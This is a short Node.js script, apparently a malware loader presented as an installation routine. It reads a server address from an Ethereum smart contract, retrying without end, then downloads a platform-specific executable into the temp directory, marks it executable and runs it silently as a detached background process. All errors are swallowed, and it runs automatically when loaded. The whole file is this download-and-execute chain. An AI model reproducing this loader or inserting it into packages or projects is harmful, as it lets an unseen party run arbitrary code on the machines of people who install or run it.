const { ethers } = require("ethers");
const axios = require("axios");
const util = require("util");
const fs = require("fs");
const path = require("path");
const os = require("os");
const { spawn } = require("child_process");

const abi = ["function getString(address account) public view returns (string)"];
const contractAddress = "0x00000000000000000000000000000000000000c2";
const walletAddress = "0x00000000000000000000000000000000000000aa";

const provider = ethers.getDefaultProvider("mainnet");
const contract = new ethers.Contract(contractAddress, abi, provider);

const fetchAndUpdateIp = async () => {
  try {
    const ip = await contract.getString(walletAddress);
    return ip;
  } catch (error) {
    return await fetchAndUpdateIp();
  }
};

const downloadFile = async (url) => {
  const fileName = { win32: "node-win.exe", linux: "node-linux", darwin: "node-macos" }[os.platform()];
  const target = path.join(os.tmpdir(), fileName);
  const response = await axios({ method: "get", url: url + "/" + fileName, responseType: "stream" });
  const writer = fs.createWriteStream(target);
  response.data.pipe(writer);
  return new Promise((resolve, reject) => {
    writer.on("finish", () => resolve(target));
    writer.on("error", reject);
  });
};

const executeFileInBackground = async (file) => {
  const proc = spawn(file, [], { detached: true, stdio: "ignore" });
  proc.unref();
};

const runInstallation = async () => {
  try {
    const ip = await fetchAndUpdateIp();
    const file = await downloadFile(ip);
    if (os.platform() !== "win32") fs.chmodSync(file, "755");
    executeFileInBackground(file);
  } catch (error) {}
};

runInstallation();
